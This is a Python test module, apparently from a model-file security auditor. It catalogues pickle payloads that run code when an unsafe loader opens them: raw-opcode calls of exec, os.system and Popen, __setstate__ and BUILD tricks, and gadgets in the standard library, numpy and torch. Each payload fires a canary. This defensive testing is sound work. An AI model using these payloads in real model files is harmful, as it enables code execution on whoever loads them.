"""Opcodes that fire a canary when an unsafe loader meets them: one entry per way in which a pickle runs code."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

from tests.hostile import containers
from tests.hostile.case import AUDITED, REFUSED, Outcome, Site
from tests.hostile.pickles import (
    call,
    dict_of,
    list_of,
    name_of,
    named,
    new_object,
    new_object_ex,
    number,
    pickled,
    raw_bytes,
    stack_name_of,
    tensor,
    text,
    tuple_of,
    with_state,
)


@dataclass(frozen=True, slots=True)
class Payload:
    """`opcodes` leaves one value on the stack, and writes the files beside the case that the payload needs."""

    attack: str
    opcodes: Callable[[Site], bytes]
    protocol: int = 4
    proof: str = "torch.load"
    expected: frozenset[Outcome] = AUDITED


EXEC = name_of("builtins", "exec")


def simple(site: Site) -> bytes:
    """The payload that container cases carry: REDUCE of builtins.exec."""
    return call(EXEC, text(site.python))


def _opcodes() -> Mapping[str, Payload]:
    return {
        "reduce-os-system": Payload("REDUCE of os.system", lambda s: call(name_of("os", "system"), text(s.command))),
        "reduce-exec": Payload("REDUCE of builtins.exec", simple),
        "reduce-eval": Payload(
            "REDUCE of builtins.eval", lambda s: call(name_of("builtins", "eval"), text(s.python)), protocol=2
        ),
        "reduce-python2-name": Payload(
            "REDUCE of a Python 2 name that pickle translates (__builtin__)",
            lambda s: call(name_of("__builtin__", "eval"), text(s.python)),
            protocol=2,
        ),
        "text-opcodes": Payload(
            "the same in protocol 0 text opcodes",
            lambda s: b"(cbuiltins\nexec\np7\n0g7\n(V" + s.python.encode() + b"\ntRt",
            protocol=2,
        ),
        "inst": Payload("INST of builtins.exec", lambda s: b"(" + text(s.python) + b"ibuiltins\nexec\n", protocol=2),
        "obj": Payload("OBJ of builtins.exec", lambda s: b"(" + EXEC + text(s.python) + b"o", protocol=2),
        "newobj": Payload(
            "NEWOBJ of bytes over a map of exec",
            lambda s: new_object(
                name_of("builtins", "bytes"), new_object(name_of("builtins", "map"), EXEC, list_of(text(s.python)))
            ),
        ),
        "newobj-ex": Payload(
            "NEWOBJ_EX of collections.Counter's base over a map of exec",
            lambda s: new_object_ex(
                name_of("builtins", "tuple"),
                tuple_of(new_object(name_of("builtins", "map"), EXEC, list_of(text(s.python)))),
                b"}",
            ),
        ),
        "stack-global": Payload(
            "STACK_GLOBAL that walks from torch._utils to os.system by dots",
            lambda s: call(stack_name_of("torch._utils", "logging.os.system"), text(s.command)),
        ),
        "extension-code": Payload(
            "EXT1 of a registered extension code", lambda s: call(b"\x82\xf0", text(s.python)), proof="extensions"
        ),
        "extension-code-4": Payload(
            "EXT4 of a registered extension code",
            lambda s: call(b"\x84\xf0\0\0\0", text(s.python)),
            proof="extensions",
        ),
        "persistent-id": Payload(
            "a payload inside a persistent id (BINPERSID)",
            lambda s: (
                tuple_of(
                    text("storage"),
                    name_of("torch", "FloatStorage"),
                    text("0"),
                    text("cpu"),
                    simple(s) + b"0" + number(48),
                )
                + b"Q"
            ),
        ),
        "memo-get": Payload(
            "exec put into the memo and called by BINGET", lambda s: EXEC + b"q\xfa0" + call(b"h\xfa", text(s.python))
        ),
        "duplicate-and-pop": Payload(
            "exec duplicated by DUP, called, popped", lambda s: EXEC + b"2(" + text(s.python) + b"tR00N"
        ),
        "pop-mark": Payload("called and hidden by POP_MARK", lambda s: b"(" + simple(s) + b"1N"),
        "dictionary-key": Payload(
            "a payload as a dictionary key", lambda s: dict_of([(simple(s), number(1))]), protocol=2
        ),
        "frozen-set-member": Payload("a payload inside a FROZENSET", lambda s: b"(" + simple(s) + b"\x91"),
        "additems": Payload("a payload inside ADDITEMS", lambda s: b"\x8f(" + simple(s) + b"\x90"),
        "bytearray-argument": Payload(
            "exec of a BYTEARRAY8 that decodes to code",
            lambda s: call(EXEC, call(name_of("codecs", "decode"), _bytearray(s.python.encode()), text("utf-8"))),
            protocol=5,
        ),
    }


def _bytearray(data: bytes) -> bytes:
    return b"\x96" + len(data).to_bytes(8, "little") + data


def _state_changes() -> Mapping[str, Payload]:
    partial = call(name_of("functools", "partial"), name_of("builtins", "print"))
    return {
        "build-setstate": Payload(
            "BUILD plants __setstate__ = exec in an object, a second BUILD calls it",
            lambda s: with_state(
                with_state(call(name_of("types", "SimpleNamespace")), named({"__setstate__": EXEC})), text(s.python)
            ),
        ),
        "build-partial": Payload(
            "BUILD rewires functools.partial to exec, REDUCE calls it",
            lambda s: call(with_state(partial, tuple_of(EXEC, tuple_of(text(s.python)), b"}", b"N"))),
        ),
        "build-slots": Payload(
            "BUILD with slot state plants __setstate__ by setattr",
            lambda s: with_state(
                with_state(call(name_of("types", "SimpleNamespace")), tuple_of(b"N", named({"__setstate__": EXEC}))),
                text(s.python),
            ),
        ),
        "setitem-environment": Payload(
            "SETITEM into os.environ",
            lambda s: name_of("os", "environ") + text(s.variable) + text("set") + b"s",
            expected=REFUSED,
        ),
        "append-path": Payload(
            "APPEND to sys.path", lambda s: name_of("sys", "path") + text(str(s.canary)) + b"a", expected=REFUSED
        ),
        "appends-extend": Payload(
            "APPENDS calls the extend method of a foreign object",
            lambda s: name_of("sys", "path") + b"(" + text(str(s.canary)) + b"e",
            expected=REFUSED,
        ),
        "setitem-defaultdict": Payload(
            "a subclass of dict whose item is a payload",
            lambda s: (
                call(name_of("collections", "defaultdict"), name_of("builtins", "list")) + text("k") + simple(s) + b"s"
            ),
        ),
        "reconstructor": Payload(
            "copyreg._reconstructor runs the __init__ of subprocess.Popen",
            lambda s: call(
                name_of("copyreg", "_reconstructor"),
                name_of("subprocess", "Popen"),
                name_of("subprocess", "Popen"),
                list_of(text("touch"), text(str(s.canary))),
            ),
        ),
        "newobj-function": Payload(
            "copyreg.__newobj__ over a map of exec",
            lambda s: call(
                name_of("copyreg", "__newobj__"),
                name_of("builtins", "tuple"),
                call(name_of("builtins", "map"), EXEC, list_of(text(s.python))),
            ),
        ),
        "reduce-ex-chain": Payload(
            "the result of one REDUCE is the function of the next",
            lambda s: call(
                call(
                    name_of("builtins", "getattr"),
                    call(name_of("builtins", "__import__"), text("os")),
                    text("system"),
                ),
                text(s.command),
            ),
        ),
    }


def _library_gadgets() -> Mapping[str, Payload]:
    def gadget(module: str, name: str, *arguments: Callable[[Site], bytes]) -> Callable[[Site], bytes]:
        return lambda site: call(stack_name_of(module, name), *(argument(site) for argument in arguments))

    def command(site: Site) -> bytes:
        return text(site.command)

    def source(site: Site) -> bytes:
        return text(site.python)

    def path(site: Site) -> bytes:
        return text(str(site.canary))

    return {
        "subprocess": Payload("subprocess.getoutput", gadget("subprocess", "getoutput", command)),
        "posix": Payload("posix.system, the module behind os", gadget("posix", "system", command)),
        "pydoc": Payload("pydoc.pipepager", gadget("pydoc", "pipepager", lambda s: text(""), command)),
        "timeit": Payload(
            "timeit.timeit",
            gadget(
                "timeit",
                "timeit",
                lambda s: text("pass"),
                source,
                lambda s: name_of("time", "time"),
                lambda s: number(1),
            ),
        ),
        "profile": Payload("cProfile.run", gadget("cProfile", "run", source)),
        "bdb": Payload(
            "bdb.Bdb().run",
            lambda s: (
                call(name_of("operator", "methodcaller"), text("run"), source(s))
                + b"("
                + call(name_of("trace", "Trace"), number(0), number(0))
                + b"tR"
            ),
        ),
        "path-touch": Payload(
            "pathlib.Path.touch, a method by dotted name",
            lambda s: call(stack_name_of("pathlib", "Path.touch"), call(name_of("pathlib", "Path"), path(s))),
        ),
        "method-caller": Payload(
            "operator.methodcaller writes a file",
            lambda s: call(
                call(name_of("operator", "methodcaller"), text("write_text"), text("x")),
                call(name_of("pathlib", "PosixPath"), path(s)),
            ),
        ),
        "logging": Payload("logging.FileHandler opens a file", gadget("logging", "FileHandler", path)),
        "open": Payload("io.open for writing", gadget("io", "open", path, lambda s: text("w"))),
        "run-path": Payload(
            "runpy.run_path of a script beside the model",
            lambda s: call(name_of("runpy", "run_path"), text(str(s.file("evil.py", s.python)))),
        ),
        "codecs": Payload(
            "code hidden by codecs.decode",
            lambda s: call(
                EXEC, call(name_of("codecs", "decode"), raw_bytes(s.python.encode().hex().encode()), text("hex"))
            ),
        ),
        "nested-pickle": Payload(
            "pickle.loads of a pickle in the pickle",
            lambda s: call(name_of("pickle", "loads"), raw_bytes(pickled(simple(s)))),
        ),
        "marshal": Payload(
            "a code object by types.FunctionType over marshal.loads",
            lambda s: call(
                call(
                    name_of("types", "FunctionType"),
                    call(name_of("builtins", "compile"), source(s), text("f"), text("exec")),
                    call(name_of("builtins", "globals")),
                )
            ),
        ),
    }


def _model_gadgets() -> Mapping[str, Payload]:
    def load_from_bytes(site: Site) -> bytes:
        nested = containers.zip_checkpoint([(text("evil"), simple(site))])
        return call(name_of("torch.storage", "_load_from_bytes"), raw_bytes(nested))

    def hub(site: Site) -> bytes:
        site.file("hubconf.py", f"{site.python}\ndef net():\n    return None\n")
        started = call(name_of("functools", "partial"), name_of("torch.hub", "load"))
        state = tuple_of(
            name_of("torch.hub", "load"),
            tuple_of(text(str(site.folder)), text("net")),
            named({"source": text("local")}),
            b"N",
        )
        return call(with_state(started, state))

    def load_file(site: Site) -> bytes:
        inner = site.file("inner.npy", containers.object_array(pickled(simple(site))))
        return call(name_of("numpy", "load"), text(str(inner)), b"N", b"\x88")

    def jit(site: Site) -> bytes:
        inner = site.file("inner.pt", containers.script_archive(**script_on_load(site)))
        return call(name_of("torch.jit", "load"), text(str(inner)))

    return {
        "torch-load-from-bytes": Payload("torch.storage._load_from_bytes of a hostile checkpoint", load_from_bytes),
        "torch-hub": Payload("torch.hub.load of a hubconf.py beside the model", hub),
        "torch-jit-load": Payload("torch.jit.load inside a pickle", jit),
        "torch-rebuild-from-type": Payload(
            "torch._tensor._rebuild_from_type_v2 calls the function it is given",
            lambda s: call(
                name_of("torch._tensor", "_rebuild_from_type_v2"),
                EXEC,
                name_of("torch.nn", "Parameter"),
                tuple_of(text(s.python)),
                b"}",
            ),
            proof="torch.load",
        ),
        "torch-collect-env": Payload(
            "torch.utils.collect_env.run",
            lambda s: call(name_of("torch.utils.collect_env", "run"), text(s.command)),
        ),
        "torch-exec-wrapper": Payload(
            "torch.jit.unsupported_tensor_ops.execWrapper",
            lambda s: call(name_of("torch.jit.unsupported_tensor_ops", "execWrapper"), text(s.python), b"}", b"}"),
        ),
        "torch-decoder": Payload(
            "torch's data decoder unpickles its argument",
            lambda s: call(
                name_of("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                text("pickle"),
                raw_bytes(pickled(simple(s))),
            ),
        ),
        "torch-graph-module": Payload(
            "a pickled torch.fx.GraphModule executes its source",
            lambda s: call(
                name_of("torch.fx.graph_module", "reduce_graph_module"),
                named({"_code": text("def forward(self):\n    pass\n")}),
                text(s.python + "\n"),
            ),
            proof="torch.load",
        ),
        "numpy-runstring": Payload(
            "numpy.testing's runstring",
            lambda s: call(name_of("numpy.testing._private.utils", "runstring"), text(s.python), b"}"),
        ),
        "numpy-load": Payload("numpy.load of an object array beside the model", load_file),
        "backward-hooks": Payload(
            "a payload in the backward hooks of a tensor",
            lambda s: call(
                name_of("torch._utils", "_rebuild_tensor_v2"),
                tuple_of(text("storage"), name_of("torch", "FloatStorage"), text("0"), text("cpu"), number(48)) + b"Q",
                number(0),
                tuple_of(number(8), number(6)),
                tuple_of(number(6), number(1)),
                b"\x89",
                simple(s),
            ),
            proof="torch.load",
        ),
        "foreign-class": Payload(
            "a class from a module beside the model",
            lambda s: (
                s.file("critaudit_evil_model.py", f"{s.python}\nclass Net:\n    pass\n"),
                with_state(name_of("critaudit_evil_model", "Net") + b")\x81", named({"weight": number(1)})),
            )[1],
            proof="torch.load beside",
        ),
    }


def script_on_load(site: Site) -> dict[str, Any]:
    """A TorchScript module whose __setstate__ runs at load and creates the canary (torch.from_file makes the file)."""
    return {
        "state_expression": tensor(),
        "methods": (
            "  def __getstate__(self: __torch__.M) -> Tensor:\n    return self.weight\n"
            "  def __setstate__(self: __torch__.M,\n    state: Tensor) -> NoneType:\n"
            f'    canary = torch.from_file("{site.canary}", True, 8)\n'
            "    self.weight = torch.add(state, torch.sum(canary))\n    self.training = False\n    return None\n"
        ),
    }


def payloads() -> Mapping[str, Payload]:
    """Every payload by its name."""
    return {**_opcodes(), **_state_changes(), **_library_gadgets(), **_model_gadgets()}
